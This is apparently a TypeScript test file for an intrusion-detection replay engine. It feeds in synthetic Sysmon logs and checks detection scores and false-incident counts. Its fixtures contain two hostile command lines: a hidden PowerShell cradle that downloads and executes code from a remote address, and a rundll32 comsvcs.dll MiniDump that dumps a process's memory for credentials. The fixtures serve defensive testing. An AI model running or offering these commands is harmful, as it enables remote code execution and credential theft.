import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import { judgeReplay } from './judge-replay.ts';
import { loadEngine } from './load-engine.ts';
import { type Engine, replay } from './replay.ts';
import { inOrder, type ReplayRecord } from './replay-record.ts';
import { BACKGROUND, type Truth } from './truth.ts';

const START_MS = Date.parse('2026-11-18T09:00:00Z');
const TRUTHS: readonly Truth[] = [
  { name: 'intrusion', kind: 'attack', severity: 'high', steps: ['download', 'dump'], isQuietAlone: false },
  { name: 'look-alike', kind: 'look-alike', severity: 'high', steps: [], isQuietAlone: false },
];

function processRecord(second: number, scenario: number, { host, image, commandLine, step = null }: { host: string; image: string; commandLine: string; step?: number | null }): ReplayRecord {
  const timeMs = START_MS + second * 1000;
  const raw = JSON.stringify({
    EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', Provider_Name: 'Microsoft-Windows-Sysmon', Computer: `${host}.fabrikam.example`, UtcTime: new Date(timeMs).toISOString().replace('T', ' ').replace('Z', ''),
    ProcessGuid: `{8f1c0000-${second}-${host}}`, ProcessId: 4000 + second, Image: image, CommandLine: commandLine, User: 'FABRIKAM\\ann', ParentImage: 'C:\\Windows\\System32\\cmd.exe', ParentCommandLine: 'cmd.exe',
  });
  return { timeMs, source: '', raw, owner: { scenario, step } };
}

const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const INTRUSION = [
  processRecord(10, 0, { host: 'ws1', image: POWERSHELL, commandLine: "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\"", step: 0 }),
  processRecord(40, 0, { host: 'ws1', image: 'C:\\Windows\\System32\\rundll32.exe', commandLine: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full', step: 1 }),
];
const HARMLESS = Array.from({ length: 1200 }, (_, at) => processRecord(at / 10, BACKGROUND, { host: `ws${2 + (at % 9)}`, image: 'C:\\Program Files\\Office\\winword.exe', commandLine: `winword.exe /n letter-${at}.docx` }));

let engine: Engine;
before(async () => {
  engine = await loadEngine([]);
});

test('an intrusion in the background is found whole, and its wait measured', async () => {
  const outcome = await replay(inOrder([...HARMLESS, ...INTRUSION]), TRUTHS, engine);
  const { counts, methods: [ours], waitS } = judgeReplay(outcome, TRUTHS);
  const [attack, lookAlike] = ours?.scenarios ?? [];
  assert.deepEqual([counts.records, counts.events, counts.benignEvents, counts.unmapped, counts.unreadable], [1202, 1202, 1200, 0, 0]);
  assert.deepEqual([attack?.isFound, attack?.completeness, attack?.purity, attack?.rank, attack?.stepsInMain], [true, 1, 1, 1, 2]);
  assert.equal(lookAlike?.alerts, 0);
  assert.ok(waitS[0] !== null && waitS[0] !== undefined && waitS[0] > 0);
  assert.equal(ours?.overall.falsePerMillion, 0);
});

test('the same intrusion played as a look-alike is a false incident', async () => {
  const outcome = await replay(inOrder(INTRUSION.map((record) => ({ ...record, owner: { scenario: 1, step: null } }))), TRUTHS, engine);
  const [ours] = judgeReplay(outcome, TRUTHS).methods;
  assert.equal(ours?.overall.falseIncidents, 1);
  assert.equal(ours?.scenarios[0]?.isFound, false);
});

test('what no mapping can read is counted, and told where it is of a scenario', async () => {
  const broken = [{ ...INTRUSION[0], raw: '{"EventID": 1,' }, { ...INTRUSION[1], raw: '{"what": "is this"}' }] as ReplayRecord[];
  const { counts } = await replay(broken, TRUTHS, engine);
  assert.deepEqual([counts.records, counts.lostOfScenarios], [2, 2]);
});
